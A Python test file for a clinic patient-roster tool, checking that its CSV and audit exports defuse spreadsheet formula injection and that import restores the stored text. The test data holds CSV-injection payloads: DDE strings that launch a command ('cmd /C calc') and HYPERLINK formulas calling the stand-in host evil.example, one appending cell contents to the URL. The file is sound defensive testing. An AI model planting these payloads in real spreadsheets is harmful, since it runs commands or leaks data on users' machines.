"""CSV injection: text that a spreadsheet would run as a formula (=, +, -, @, tab, CR at the
start of a cell) is written with a leading apostrophe, and import of our own export gives back
exactly the text that was stored."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from datetime import date

import pytest

from cartclinic.model import Patient
from cartclinic.roster import NewTreatment, Roster
from cartclinic.roster_csv import (
    FORMULA_START,
    export_csv,
    from_spreadsheet_safe,
    import_csv,
    spreadsheet_safe,
)

TODAY = date(2026, 11, 27)
FORMULAS = {
    # a name refuses the symbols = and + (tests/test_bad_input.py) but not @ and -
    "name": '@HYPERLINK("http://evil.example/?","Click")',
    "diagnosis": "=cmd|' /C calc'!A0",
    "physician": "@SUM(1+1)*cmd|' /C calc'!A0",
    "product": "-2+3+cmd|' /C calc'!A0",
    "notes": "+1+cmd|' /C calc'!A0",
    "phone": "+44 7700 900123",
}


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _register(roster: Roster, mrn: str, values: dict[str, str]) -> None:
    roster.register(
        Patient(mrn=mrn, name=values["name"], date_of_birth=date(1950, 5, 4), sex="F",
                phone=values.get("phone", ""), diagnosis=values["diagnosis"],
                physician=values["physician"], notes=values["notes"]),
        [NewTreatment(product=values["product"], target="CD19", infusion_date=date(2026, 10, 1),
                      protocols=("b-all-cd19",))],
        "nurse Test", TODAY)


@pytest.mark.parametrize("text", [
    "=1+1", "+1", "-1", "@A1", "\tx", "\rx", "'=1+1", "''@x", "'", "", "plain", "O'Brien",
    "a=b", " =1", "-",
])
def test_spreadsheet_safe_cells_never_start_a_formula_and_come_back_exactly(text):
    cell = spreadsheet_safe(text)
    assert cell[:1] not in FORMULA_START
    assert from_spreadsheet_safe(cell) == text


def test_the_export_neutralises_formulas_and_import_gives_back_the_text(roster, tmp_path):
    _register(roster, "F1", FORMULAS)
    _register(roster, "F2", {**FORMULAS, "name": "-Ann", "notes": "'=already quoted",
                             "diagnosis": '=HYPERLINK("http://evil.example/?"&A1,"Click")'})
    text = export_csv(roster)
    for row in _cells(text):
        for cell in row:
            assert cell[:1] not in FORMULA_START, f"{cell!r} would run as a formula"
    assert "'=HYPERLINK" in text and "'=cmd|" in text and "'@SUM" in text and "'-Ann" in text
    copy = Roster.open(tmp_path / "copy.db")
    try:
        assert import_csv(copy, text, "nurse Test", TODAY) == 2
        p = copy.store.patient_by_mrn("F1")
        assert (p.name, p.diagnosis, p.physician, p.notes, p.phone) == (
            FORMULAS["name"], FORMULAS["diagnosis"], FORMULAS["physician"], FORMULAS["notes"],
            FORMULAS["phone"])
        assert copy.store.treatments(p.id)[0].product == FORMULAS["product"]
        f2 = copy.store.patient_by_mrn("F2")
        assert (f2.name, f2.notes) == ("-Ann", "'=already quoted")
        assert export_csv(copy) == text
    finally:
        copy.close()


def test_the_audit_export_neutralises_formulas(tmp_path):
    db = tmp_path / "r.db"
    # a name like a formula in an audit row written before the command line refused it (see
    # test_cli's test_who_must_read_as_a_name_nothing_reaches_the_audit_trail_otherwise): the
    # export still neutralises it
    evil = '=HYPERLINK("http://evil.example","x")'

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "cartclinic", "--db", str(db), "--who",
                               "Nurse Lee",
                               *args], capture_output=True, text=True, timeout=120,
                              encoding="utf-8")

    src = tmp_path / "in.csv"
    src.write_text("mrn,name,date_of_birth,diagnosis,product,infusion_date,protocol\n"
                   "A1,@Ann,1950-01-01,=1+1,axi,2026-01-05,lbcl-cd19\n", encoding="utf-8")
    assert run("import", str(src)).returncode == 0
    from cartclinic.roster import Roster

    r = Roster.open(db)
    with r.store.write(evil):
        r.store.note("older program", {})
    r.close()
    out = tmp_path / "audit.csv"
    assert run("audit", "--export", str(out)).returncode == 0
    rows = _cells(out.read_text(encoding="utf-8"))
    assert any(cell == "'" + evil for row in rows for cell in row)
    for row in rows:
        for cell in row:
            assert cell[:1] not in FORMULA_START, f"{cell!r} would run as a formula"
